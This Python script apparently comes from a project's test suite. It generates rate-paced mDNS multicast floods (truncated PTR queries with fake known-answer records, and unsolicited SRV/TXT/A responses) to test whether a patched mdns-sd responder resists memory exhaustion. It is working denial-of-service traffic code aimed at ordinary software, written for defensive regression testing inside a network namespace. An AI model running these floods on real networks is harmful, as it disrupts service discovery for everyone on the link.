#!/usr/bin/python3
"""Floods that a stranger on the link, with no key, can aim at an mDNS
responder's memory (PATCHES.md section 28 of the vendored mdns-sd), built
with python-zeroconf's wire codec and sent to the mDNS group from port 5353:

    responder_flood.py tc IFACE_ADDR SECONDS RATE
        Truncated (TC) PTR queries for _rlx._tcp.local., each followed by
        known-answer packets with no question (30 made-up PTR records each,
        the first truncated again, so it extends the wait): what a
        responder holds for RFC 6762 section 7.2.
    responder_flood.py records IFACE_ADDR SECONDS RATE
        Unsolicited responses with no PTR: SRV, TXT and A records of made-up
        names, half under _rlx._tcp.local. and half under other types and
        hosts (what upstream mdns-sd cached as "for us").

RATE is packets per second. Prints {"ready": true} before the first packet
and {"sent": N, "bytes": B} at the end. Run inside a test network namespace
only (it sends multicast).
"""
import json
import socket
import sys
import time

from zeroconf import DNSAddress, DNSOutgoing, DNSPointer, DNSQuestion, DNSService, DNSText, const

GROUP = "224.0.0.251"
PORT = 5353
TYPE = "_rlx._tcp.local."


def sock(iface_addr):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    if hasattr(socket, "SO_REUSEPORT"):
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    s.bind(("", PORT))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(iface_addr))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
    return s


def tc_flood(n):
    """One TC query and its two follow-ups, all made up anew (round n)."""
    q = DNSOutgoing(const._FLAGS_QR_QUERY | const._FLAGS_TC, multicast=True)
    q.add_question(DNSQuestion(TYPE, const._TYPE_PTR, const._CLASS_IN))
    out = [q]
    for f in range(2):
        flags = const._FLAGS_QR_QUERY | (const._FLAGS_TC if f == 0 else 0)
        k = DNSOutgoing(flags, multicast=True)
        for j in range(30):
            alias = "flood-%d-%d-%d.%s" % (n, f, j, TYPE)
            k.add_answer_at_time(DNSPointer(TYPE, const._TYPE_PTR, const._CLASS_IN, 4500, alias), 0)
        out.append(k)
    return out


def records_flood(n):
    """One unsolicited response of SRV, TXT and A records (round n)."""
    r = DNSOutgoing(const._FLAGS_QR_RESPONSE | const._FLAGS_AA, multicast=True)
    for j in range(6):
        ty = TYPE if j % 2 == 0 else "_ipp%d._tcp.local." % (n % 97)
        inst = "junk-%d-%d.%s" % (n, j, ty)
        host = "junk-%d-%d.local." % (n, j)
        r.add_answer_at_time(DNSService(inst, const._TYPE_SRV, const._CLASS_IN, 4500, 0, 0, 6184, host), 0)
        r.add_answer_at_time(DNSText(inst, const._TYPE_TXT, const._CLASS_IN, 4500, b"\x09txtvers=1\x20" + b"x" * 32), 0)
        k = n * 6 + j
        ip = bytes([10, 250, k // 256 % 256, k % 256])
        r.add_answer_at_time(DNSAddress(host, const._TYPE_A, const._CLASS_IN, 4500, ip), 0)
    return [r]


def main():
    verb, iface_addr, seconds, rate = sys.argv[1], sys.argv[2], float(sys.argv[3]), float(sys.argv[4])
    make = {"tc": tc_flood, "records": records_flood}[verb]
    s = sock(iface_addr)
    print(json.dumps({"ready": True}), flush=True)
    sent = size = n = 0
    start = time.monotonic()
    while time.monotonic() - start < seconds:
        for out in make(n):
            for p in out.packets():
                s.sendto(p, (GROUP, PORT))
                sent += 1
                size += len(p)
        n += 1
        # Paced to RATE packets a second overall.
        ahead = sent / rate - (time.monotonic() - start)
        if ahead > 0:
            time.sleep(ahead)
    print(json.dumps({"sent": sent, "bytes": size}), flush=True)


if __name__ == "__main__":
    main()
